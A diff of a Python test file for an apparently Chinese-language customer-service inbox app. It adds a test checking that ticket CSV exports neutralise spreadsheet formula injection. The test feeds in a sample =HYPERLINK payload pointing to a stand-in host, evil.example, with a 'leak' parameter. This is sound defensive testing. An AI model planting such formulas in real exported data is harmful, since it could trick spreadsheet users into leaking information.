@@ -179,3 +179,12 @@ def test_manual_import_is_all_or_nothing_and_entries_can_be_edited(services: App
     assert {e.key: e.answer for e in services.inbox.manual.answers()}["MD-1"] == "可以，订单页申请开票。"
     services.inbox.manual.delete_answer("MD-1")
     assert "MD-1" not in {e.key for e in services.inbox.manual.answers()}
+
+
+def test_a_formula_in_a_ticket_is_exported_as_text(services: AppServices) -> None:
+    services.inbox.triage.ingest()
+    item = by_author(services)["张小姐"]
+    services.inbox.customer_service.route_to_cs(item, '=HYPERLINK("http://evil.example/?leak","点我")')
+    rows = list(csv.reader(io.StringIO(services.inbox.customer_service.export_tickets_csv().lstrip("\ufeff"))))
+    assert rows[1][rows[0].index("note")] == "'=HYPERLINK(\"http://evil.example/?leak\",\"点我\")"
+    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)
